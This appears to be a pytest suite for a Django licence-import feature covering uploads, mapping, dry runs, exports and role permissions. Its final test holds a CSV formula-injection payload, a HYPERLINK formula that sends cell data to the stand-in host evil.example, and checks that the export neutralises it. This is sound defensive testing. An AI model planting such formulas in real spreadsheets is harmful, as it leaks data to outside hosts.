"""The licence import pages: upload, mapping, dry-run report, apply, CSV; and who sees what."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from fogcontrol.core.roles import Role
from fogcontrol.registry.imports.testing import HEADER, csv_upload
from fogcontrol.registry.models import FoodServiceEstablishment, LicenceImport
from fogcontrol.testing.queries import assert_queries_do_not_grow, assert_same_exact_queries

pytestmark = pytest.mark.django_db


def _table(n: int) -> list[list]:
    return [HEADER] + [[f"TL-{i}", f"Diner {i}", f"{i} Main St", "6/30/2027", "", ""] for i in range(n)]


@pytest.fixture
def as_user(client):
    def login(user):
        client.force_login(user)
        return client

    return login


def _upload_and_check(client, capture, table):
    response = client.post("/registry/imports/new/", {"file": csv_upload(table)})
    assert response.status_code == 302
    mapping_url = response["Location"]
    form = client.get(mapping_url)
    assert form.status_code == 200
    # The proposed mapping is pre-selected.
    assert '<option value="Licence No" selected>' in form.content.decode()
    with capture(execute=True):
        response = client.post(
            mapping_url,
            {
                "licence_number": "Licence No",
                "business_name": "Business Name",
                "site_address": "Site Address",
            },
        )
    assert response.status_code == 302
    return LicenceImport.objects.latest("pk")


def test_a_clerk_uploads_maps_reads_the_dry_run_and_the_manager_applies(
    town, as_user, django_capture_on_commit_callbacks
):
    client = as_user(town.users[Role.FOG_MANAGER])
    table = _table(3) + [["", "No licence", "1 Main St", "", "", ""]]
    licence_import = _upload_and_check(client, django_capture_on_commit_callbacks, table)
    page = client.get(f"/registry/imports/{licence_import.pk}/").content.decode()
    assert "dry run" in page and "Apply to the registry" in page
    assert "No licence number" in page
    assert not FoodServiceEstablishment.objects.filter(licence_number__startswith="TL-").exists()

    rejected = client.get(f"/registry/imports/{licence_import.pk}/?outcome=rejected").content.decode()
    assert "No licence number" in rejected and "Diner 1" not in rejected

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/registry/imports/{licence_import.pk}/apply/")
    assert response.status_code == 302
    assert FoodServiceEstablishment.objects.filter(licence_number__startswith="TL-").count() == 3
    page = client.get(f"/registry/imports/{licence_import.pk}/").content.decode()
    assert "Applied to the registry" in page and "Apply to the registry</button>" not in page

    listing = client.get("/registry/imports/").content.decode()
    assert f"#{licence_import.pk}" in listing and "licences.csv" in listing


def test_the_report_downloads_as_csv_with_every_row(town, as_user, django_capture_on_commit_callbacks):
    client = as_user(town.users[Role.INSPECTOR])
    licence_import = _upload_and_check(client, django_capture_on_commit_callbacks, _table(4))
    response = client.get(f"/registry/imports/{licence_import.pk}/report.csv")
    assert response["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert lines[0][:3] == ["row", "outcome", "effect"]
    assert [line[0] for line in lines[1:]] == ["2", "3", "4", "5"]


def test_the_report_rows_export_with_the_filters_applied(town, as_user, django_capture_on_commit_callbacks):
    """The report's rows, as the page lists them (its filters applied), to CSV and XLSX (issue 17)."""
    from openpyxl import load_workbook

    client = as_user(town.users[Role.INSPECTOR])
    table = _table(4) + [["", "No licence", "1 Elm St", "6/30/2027", "", ""]]
    licence_import = _upload_and_check(client, django_capture_on_commit_callbacks, table)
    url = f"/registry/imports/{licence_import.pk}/"
    page = client.get(url)
    assert "format=csv" in page.content.decode()
    every = list(
        csv.reader(io.StringIO(b"".join(client.get(url, {"format": "csv"}).streaming_content).decode()))
    )
    assert (
        every[0][:4] == ["Row", "Outcome", "Effect", "Licence"]
        and len(every) - 1 == page.context["page"].paginator.count
    )
    rejected = client.get(url, {"outcome": "rejected", "format": "xlsx"})
    rows = list(
        load_workbook(io.BytesIO(b"".join(rejected.streaming_content)), read_only=True).worksheets[0].values
    )
    assert len(rows) - 1 == client.get(url, {"outcome": "rejected"}).context["page"].paginator.count == 1
    assert rows[1][1] == "Rejected"


def test_an_inspector_runs_dry_runs_but_does_not_see_apply(town, as_user, django_capture_on_commit_callbacks):
    client = as_user(town.users[Role.INSPECTOR])
    licence_import = _upload_and_check(client, django_capture_on_commit_callbacks, _table(1))
    page = client.get(f"/registry/imports/{licence_import.pk}/").content.decode()
    assert "Apply to the registry" not in page
    assert client.post(f"/registry/imports/{licence_import.pk}/apply/").status_code == 403
    assert LicenceImport.objects.get().status == "checked"


def test_a_wrong_file_gets_a_message_beside_the_field(town, as_user):
    client = as_user(town.users[Role.FOG_MANAGER])
    response = client.post(
        "/registry/imports/new/", {"file": SimpleUploadedFile("x.pdf", b"%PDF", "application/pdf")}
    )
    assert response.status_code == 400
    assert "is not a CSV or XLSX file" in response.content.decode()
    assert not LicenceImport.objects.exists()


def test_a_mapping_missing_the_business_name_is_explained(town, as_user):
    client = as_user(town.users[Role.FOG_MANAGER])
    response = client.post("/registry/imports/new/", {"file": csv_upload(_table(1))})
    response = client.post(response["Location"], {"licence_number": "Licence No", "business_name": ""})
    assert response.status_code == 400
    assert "This field is required" in response.content.decode()
    assert LicenceImport.objects.get().status == "mapping"


@pytest.mark.parametrize("role", [Role.FSE, Role.PROPERTY_OWNER, Role.HAULER])
def test_outside_users_get_404_everywhere(town, as_user, role, django_capture_on_commit_callbacks):
    manager = as_user(town.users[Role.FOG_MANAGER])
    licence_import = _upload_and_check(manager, django_capture_on_commit_callbacks, _table(1))
    client = as_user(town.users[role])
    for url in [
        "/registry/imports/",
        "/registry/imports/new/",
        f"/registry/imports/{licence_import.pk}/",
        f"/registry/imports/{licence_import.pk}/mapping/",
        f"/registry/imports/{licence_import.pk}/status/",
        f"/registry/imports/{licence_import.pk}/report.csv",
    ]:
        assert client.get(url).status_code == 404, url
    assert client.post(f"/registry/imports/{licence_import.pk}/apply/").status_code == 404


def test_read_only_staff_see_imports_but_cannot_upload(town, as_user):
    client = as_user(town.users[Role.STAFF_READONLY])
    assert client.get("/registry/imports/").status_code == 200
    assert client.get("/registry/imports/new/").status_code == 403


def test_anonymous_is_sent_to_sign_in(client):
    response = client.get("/registry/imports/")
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_the_status_box_polls_while_running_and_refreshes_when_done(town, as_user):
    client = as_user(town.users[Role.FOG_MANAGER])
    client.post("/registry/imports/new/", {"file": csv_upload(_table(1))})
    licence_import = LicenceImport.objects.get()
    LicenceImport.objects.filter(pk=licence_import.pk).update(status="running", rows_read=500)
    page = client.get(f"/registry/imports/{licence_import.pk}/").content.decode()
    assert 'hx-trigger="every 2s"' in page and "500 rows read" in page
    running = client.get(f"/registry/imports/{licence_import.pk}/status/?was=running", HTTP_HX_REQUEST="true")
    assert "HX-Refresh" not in running and "500 rows read" in running.content.decode()
    LicenceImport.objects.filter(pk=licence_import.pk).update(
        status="checked", dry_run_counts={"rows": 1, "created": 1}
    )
    done = client.get(f"/registry/imports/{licence_import.pk}/status/?was=running", HTTP_HX_REQUEST="true")
    assert done["HX-Refresh"] == "true"


def test_report_rows_swap_in_by_htmx(town, as_user, django_capture_on_commit_callbacks):
    client = as_user(town.users[Role.FOG_MANAGER])
    licence_import = _upload_and_check(client, django_capture_on_commit_callbacks, _table(2))
    response = client.get(
        f"/registry/imports/{licence_import.pk}/?outcome=created",
        HTTP_HX_REQUEST="true",
        HTTP_HX_TARGET="results",
    )
    body = response.content.decode()
    assert body.lstrip().startswith('<section id="results"') and "Diner 1" in body


def test_pages_cost_the_same_queries_whatever_their_length(town, as_user, django_capture_on_commit_callbacks):
    """The list of imports (2, then 6) and the report of one import (3 rows, then 30)."""
    client = as_user(town.users[Role.FOG_MANAGER])
    imports = {3: [], 30: []}

    def add_imports(count):
        for _ in range(count):
            for size, made in imports.items():
                made.append(_upload_and_check(client, django_capture_on_commit_callbacks, _table(size)))

    # Session, user, Town profile, count and page of the imports.
    assert_queries_do_not_grow(client, add_imports, {"/registry/imports/": 5}, small=1, large=3)
    # Session, user, Town profile, the import, count and page of its report rows.
    few, many = assert_same_exact_queries(
        client, [f"/registry/imports/{imports[n][-1].pk}/" for n in (3, 30)], 6
    )
    assert "Diner 2" in few.content.decode() and "Diner 24" in many.content.decode()


def test_a_formula_in_a_licence_row_comes_out_neutralised_in_the_report(
    town, as_user, django_capture_on_commit_callbacks
):
    """Issue 15, finding 7: a cell a spreadsheet would run as a formula is written as text."""
    client = as_user(town.users[Role.INSPECTOR])
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    table = [
        HEADER,
        ["TL-1", formula, "1 Main St", "6/30/2027", "", ""],
        ["TL-2", "@SUM(1+1)", "2 Main St", "", "", ""],
    ]
    licence_import = _upload_and_check(client, django_capture_on_commit_callbacks, table)
    response = client.get(f"/registry/imports/{licence_import.pk}/report.csv")
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [line[4] for line in lines[1:]]
    assert names == ["'" + formula, "'@SUM(1+1)"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)
